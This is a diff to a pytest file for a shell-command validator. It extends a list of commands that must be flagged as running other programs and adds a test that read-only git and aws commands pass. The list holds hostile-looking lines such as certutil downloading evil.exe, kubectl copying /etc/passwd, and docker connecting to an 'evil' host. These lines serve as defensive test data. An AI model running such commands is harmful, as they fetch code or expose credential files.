@@ -414,7 +414,32 @@ RUN_OTHER_PROGRAMS = [
     "mshta http://x",
     "rundll32 evil.dll,entry",
     "certutil -urlcache -f http://x evil.exe",
+    # a new user's trial, after the list passed
+    "kubectl debug web -it --image=busybox",
+    "kubectl cp web:/etc/passwd ./passwd",
+    "kubectl krew install x",
+    "kubectl get pods --kubeconfig /tmp/evil",
+    "npm start",
+    "npm rebuild",
+    "npm update",
+    "git --git-dir=/tmp/x status",
+    "git --work-tree=/tmp/x status",
+    "docker -H ssh://evil ps",
+    "docker --config /tmp/x ps",
+    "git difftool",
+    "git log --ext-diff",
+    "gh codespace ssh",
+    "gcloud compute ssh x",
 ]
+
+
+@pytest.mark.parametrize(
+    "line", ["git tag --list", "aws configure list", "git blame README.md", "git grep -n TODO"]
+)
+def test_read_only_commands_the_trial_saw_flagged_pass(line: str) -> None:
+    from errgen.validation.commands import judge
+
+    assert judge(line, frozenset(line.split()[:1]), "read-only") == []
 
 
 @pytest.mark.parametrize("line", RUN_OTHER_PROGRAMS)
